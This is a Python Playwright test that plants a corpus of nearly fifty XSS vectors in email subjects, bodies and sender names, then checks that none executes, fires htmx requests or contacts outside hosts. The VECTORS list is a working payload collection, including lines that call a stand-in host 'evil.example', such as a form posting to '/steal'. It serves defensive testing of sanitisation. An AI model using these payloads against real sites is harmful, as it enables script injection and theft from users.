"""Hostile mail in real Chromium: a corpus of XSS vectors in subjects, both bodies and display
names. On the Email tab, in See Message (inline and as a page) and in the message's frame,
none executes, nothing reaches htmx, and no request leaves 127.0.0.1."""

import json

from playwright.sync_api import expect

from tests.browser.conftest import open_tab
from tests.browser.conftest import run_in_app

EVIL = "https://evil.example"
VECTORS = [
    "<script>window.__xss=1;alert(1)</script>",
    '<img src=x onerror="window.__xss=2;alert(2)">',
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    "<body onload=alert(5)>",
    '<iframe src="javascript:alert(6)"></iframe>',
    '<a href="javascript:alert(7)">seven</a>',
    '<a href="data:text/html,<script>alert(8)</script>">eight</a>',
    '<object data="data:text/html,<script>alert(9)</script>"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<base href="{EVIL}/"><a href="relative">base</a>',
    f'<form action="{EVIL}/steal"><input name=q autofocus onfocus=alert(13)></form>',
    f'<div style="background:url({EVIL}/bg.png)">css</div>',
    f"<style>@import url({EVIL}/x.css); body{{background:url({EVIL}/b.png)}}</style>",
    f'<link rel=stylesheet href="{EVIL}/s.css">',
    f'<img src="{EVIL}/track.gif">',
    '<div hx-get="/stream/email/rows?xss=htmx-get" hx-trigger="load">htmx</div>',
    '<button hx-post="/logout?xss=htmx-post" hx-trigger="load">x</button>',
    '<div hx-on:htmx:load="alert(20)" hx-get="/?xss=hx-on" hx-trigger="load">on</div>',
    "<details open ontoggle=alert(21)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(22)>",
    '"><script>alert(23)</script>',
    "'><img src=x onerror=alert(24)>",
    "</textarea><script>alert(25)</script>",
    "</title><script>alert(26)</script>",
    "<input onfocus=alert(27) autofocus>",
    "<video><source onerror=alert(28)></video>",
    "<audio src=x onerror=alert(29)>",
    "<marquee onstart=alert(30)>m</marquee>",
    '<svg><a xlink:href="javascript:alert(31)"><text x=20 y=20>X</text></a></svg>',
    "<svg><animate onbegin=alert(32) attributeName=x dur=1s>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(33)'/>\">",
    '<iframe srcdoc="<script>alert(34)</script>"></iframe>',
    '<noscript><p title="</noscript><img src=x onerror=alert(35)>">',
    '<a href="jav&#x09;ascript:alert(36)">tab</a>',
    '<a href="&#106;avascript:alert(37)">entity</a>',
    '<div style="width: expression(alert(38))">ie</div>',
    "<img src=x:alert(39) onerror=eval(src)>",
    '<form><button formaction="javascript:alert(40)">go</button></form>',
    "{{constructor.constructor('alert(41)')()}}",
    "<template><script>alert(42)</script></template>",
    f'<img srcset="{EVIL}/a.png 1x">',
    f'<a href="{EVIL}/" ping="{EVIL}/ping">ping</a>',
    f'<svg><foreignObject><iframe src="{EVIL}/fo"></iframe></foreignObject></svg>',
    f'<video poster="{EVIL}/poster.png"></video>',
    f'<table background="{EVIL}/t.png"><tr><td>t</td></tr></table>',
    '<a href="vbscript:msgbox(48)">vb</a>',
]

SEED = """
import json
from core.db import database
from core.people import create_user
from plugins.email import outbox
from plugins.email import sender
vectors = json.loads(VECTORS_JSON)
with database.atomic():
    readers = [create_user((v[:100] or "x") + " Reader", f"xss{i}@example.com", "Teammate")
               for i, v in enumerate(vectors[:6])]
rows = [{"kind": "test.xss", "private": False, "sender_id": None, "sender_name": v[:120],
         "recipient": readers[i % len(readers)], "subject": v, "text_body": v,
         "html_body": "<p>Before</p>" + v + "<p>After</p>"} for i, v in enumerate(vectors)]
with app.test_request_context():
    with database.atomic():
        ids = outbox.queue(rows)
settings = app.extensions["email.settings"]
for message_id in ids:
    sender.deliver(message_id, settings)
print(json.dumps(ids))
"""


ROWS_WITHOUT_FRAME = """Array.from(document.querySelectorAll("[data-row-id]"))
  .filter(row => !row.querySelector("iframe.email-frame"))
  .map(row => row.dataset.rowId + " open=" + row.querySelector("details").open + " "
       + row.querySelector("details").innerHTML.slice(0, 300))"""


# The server is asked for before the page, so the page (and its keep-alive connections) closes
# first: gunicorn then stops at once instead of waiting on idle connections.
def test_no_vector_executes_or_reaches_outside(fresh_server, page, console_errors):
    assert len(VECTORS) >= 40
    code = SEED.replace("VECTORS_JSON", repr(json.dumps(VECTORS)))
    ids = json.loads(run_in_app(fresh_server, code).strip().splitlines()[-1])
    dialogs, requests = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.context.on("request", lambda request: requests.append(request.url))
    # Whatever asks for another host is stopped here too, so nothing leaves the machine.
    page.context.route(lambda url: not url.startswith(fresh_server), lambda route: route.abort())
    open_tab(page, fresh_server, "email")
    page.goto(f"{fresh_server}/stream/email?kind=test.xss")
    rows = page.locator("[data-row-id]")
    expect(rows).to_have_count(len(VECTORS))
    assert page.locator(".email-row .email-subject").first.inner_text() == VECTORS[-1]
    # See Message, in place, for every message, from the last row up: an opened message makes
    # the page taller below its own row only, so the rows still to click never move while the
    # messages under them arrive, and none has to wait for the one before it.
    for index in reversed(range(len(VECTORS))):
        rows.nth(index).locator("summary", has_text="See Message").click()
    try:
        expect(page.locator("iframe.email-frame")).to_have_count(len(VECTORS), timeout=30_000)
    except AssertionError:
        print("rows without a frame:", page.evaluate(ROWS_WITHOUT_FRAME))
        raise
    for frame_id in ids:
        frame = page.frame_locator(f"iframe[name=email-frame-{frame_id}]")
        expect(frame.locator("body")).to_contain_text("Before")
    page.wait_for_timeout(1500)  # room for a delayed payload (meta refresh, hx-trigger load)
    # As a page by URL, and the frame's document opened on its own.
    for message_id in ids[:10]:
        page.goto(f"{fresh_server}/stream/email/{message_id}")
        expect(page.locator("iframe.email-frame")).to_be_visible()
        page.goto(f"{fresh_server}/stream/email/{message_id}/body")
    page.wait_for_timeout(500)
    assert dialogs == []
    assert page.evaluate("typeof window.__xss") == "undefined"
    outside = [url for url in requests if not url.startswith((fresh_server, "data:", "about:"))]
    assert outside == []
    assert [url for url in requests if "xss=" in url] == []  # no htmx attribute fired
    assert [error for error in console_errors if "Content Security Policy" in error] == []
